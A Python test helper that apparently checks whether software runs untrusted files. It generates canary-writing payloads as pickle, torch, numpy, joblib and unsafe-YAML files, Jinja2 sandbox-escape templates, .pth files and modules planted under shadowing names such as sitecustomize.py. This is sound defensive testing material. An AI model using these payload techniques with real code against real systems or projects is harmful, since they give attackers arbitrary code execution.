"""Charges: files that, read carelessly, run code that leaves a canary behind; and how each is read carelessly."""

import io
import json
import pickle
import site
import sys
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from importlib import import_module, util
from pathlib import Path
from typing import Any

import jinja2
import joblib
import numpy as np
import torch
import yaml

# All that a Python program may be called that is planted where programs look for their own modules.
MODULES = (
    *("json.py", "torch.py", "pip.py", "random.py", "numpy.py", "transformers.py", "offbook.py", "lm_eval.py"),
    *("sitecustomize.py", "usercustomize.py", "conftest.py", "setup.py", "__init__.py", "__main__.py", "utils.py"),
    *("modeling_canary.py", "tokenization_canary.py", "configuration_canary.py", "modeling.py", "handler.py"),
    *("custom_generate/generate.py", "custom_st.py", "metric.py", "canary_backend.py"),
)
# All that a pickle may be called that libraries look for beside the files they were asked for.
PICKLES = {
    "pickle": (
        *(
            "custom_checkpoint_0.pkl",
            "random_states_0.pkl",
            "tokenizer.pkl",
            "state.pickle",
            "cache.pkl",
            "rng_state.pth",
        ),
        *("vocab.pkl", "data.dill", "state.pt.tmp"),
    ),
    "torch": (
        *("pytorch_model.bin", "adapter_model.bin", "training_args.bin", "optimizer.pt", "optimizer.bin"),
        *("scheduler.pt", "model.pt", "consolidated.00.pth", "scheduler.bin", "sampler.bin"),
    ),
    "old torch": ("pytorch_model-00001-of-00001.bin", "value_head.bin"),
    "npy": ("features.npy", "random.npy", "states.npy"),
    "npz": ("features.npz", "weights.npz"),
    "joblib": ("model.joblib", "vectors.joblib"),
}
TEMPLATES = (
    "{{ cycler.__init__.__globals__.__builtins__['exec'](%s) }}",
    "{{ self.__init__.__globals__.__builtins__.exec(%s) }}",
    "{{ lipsum.__globals__['__builtins__']['exec'](%s) }}",
    "{{ namespace.__init__.__globals__['__builtins__']['exec'](%s) }}",
    "{%% set x = joiner.__init__.__globals__ %%}{{ x['__builtins__']['exec'](%s) }}",
    "{{ ''|attr('__class__')|attr('__mro__')|last|attr('__subclasses__')() }}"
    "{{ cycler|attr('__init__')|attr('__globals__')|attr('get')('__builtins__')|attr('get')('exec')(%s) }}",
    "{{ (lipsum|attr('__globals__')).get('__builtins__').get('exec')(%s) }}",
)


class Bomb:
    """Pickled, it is a call of `exec`."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> Any:
        return exec, (self.code,)


@dataclass(frozen=True)
class Canary:
    """The file that any charge would create."""

    path: Path

    @property
    def code(self) -> str:
        """Creates the canary in one line of Python that needs no import."""
        return f"open({str(self.path)!r}, 'w').close()"

    def has_sung(self) -> bool:
        """Whether a charge has fired; the next one may then fire again."""
        sung = self.path.exists()
        self.path.unlink(missing_ok=True)
        return sung

    def charge(self, kind: str) -> bytes:
        """The bytes of a file."""
        return CHARGES[kind](self.code)


def _torch(code: str, **how: Any) -> bytes:
    torch.save(Bomb(code), stream := io.BytesIO(), **how)
    return stream.getvalue()


def _objects(code: str) -> "np.ndarray[Any, Any]":
    array = np.empty(1, dtype=object)
    array[0] = Bomb(code)
    return array


def _npy(code: str) -> bytes:
    np.save(stream := io.BytesIO(), _objects(code), allow_pickle=True)
    return stream.getvalue()


def _npz(code: str) -> bytes:
    np.savez(stream := io.BytesIO(), features=_objects(code))
    return stream.getvalue()


def _joblib(code: str) -> bytes:
    joblib.dump(Bomb(code), stream := io.BytesIO())
    return stream.getvalue()


CHARGES: dict[str, Callable[[str], bytes]] = {
    "pickle": lambda code: pickle.dumps(Bomb(code)),
    "torch": _torch,
    "old torch": lambda code: _torch(code, _use_new_zipfile_serialization=False),
    "npy": _npy,
    "npz": _npz,
    "joblib": _joblib,
    "yaml": lambda code: f"canary: !!python/object/apply:builtins.exec [{json.dumps(code)}]\n".encode(),
    "yaml module": lambda code: (
        f"canary: !!python/object/new:type [z, !!python/tuple [], {{extend: "
        f"!!python/name:exec }}]\nx: !!python/object/apply:builtins.exec [{json.dumps(code)}]\n".encode()
    ),
    "python": lambda code: f"{code}\n".encode(),
    "pth": lambda code: f"import sys; {code}\n".encode(),
    **{
        f"template {i}": lambda code, template=template: (template % repr(code)).encode()  # type: ignore[misc]
        for i, template in enumerate(TEMPLATES)
    },
}


def fire(kind: str, path: Path) -> None:
    """Reads a charge as carelessly as can be."""
    if kind == "pickle":
        pickle.loads(path.read_bytes())
    elif kind in ("torch", "old torch"):
        torch.load(path, weights_only=False)
    elif kind == "npy":
        np.load(path, allow_pickle=True)
    elif kind == "npz":
        np.load(path, allow_pickle=True)["features"]
    elif kind == "joblib":
        joblib.load(path)
    elif kind.startswith("yaml"):
        yaml.unsafe_load(path.read_text())
    elif kind == "python":
        spec = util.spec_from_file_location("canary", path)
        assert spec is not None
        assert spec.loader is not None
        spec.loader.exec_module(util.module_from_spec(spec))
    elif kind == "pth":
        with _own_path():
            site.addsitedir(str(path.parent))
    else:
        jinja2.Environment().from_string(path.read_text()).render()


def fire_by_name(folder: Path, name: str) -> None:
    """Imports a planted module as a program does that has `folder` on its path."""
    with _own_path():
        sys.path.insert(0, str(folder))
        import_module(name)


def plant(folder: Path, canary: Canary) -> None:
    """Lays every charge beside the files of a folder, under all names at which libraries look."""
    for name in MODULES:
        (folder / name).parent.mkdir(exist_ok=True)
        _lay(folder / name, canary.charge("python"))
    for kind, names in PICKLES.items():
        for name in names:
            _lay(folder / name, canary.charge(kind))
    _lay(folder / "canary.pth", canary.charge("pth"))
    _lay(folder / f"{folder.name}.py", canary.charge("python"))
    _lay(folder / "canary.yaml", canary.charge("yaml"))
    _lay(folder / "default_config.yaml", canary.charge("yaml"))
    _lay(folder / "matplotlibrc", b"backend: module://canary_backend\n")


def _lay(path: Path, data: bytes) -> None:
    if not path.exists():
        path.write_bytes(data)


@contextmanager
def _own_path() -> Iterator[None]:
    path, modules = list(sys.path), set(sys.modules)
    try:
        yield
    finally:
        sys.path[:] = path
        for name in set(sys.modules) - modules:
            del sys.modules[name]
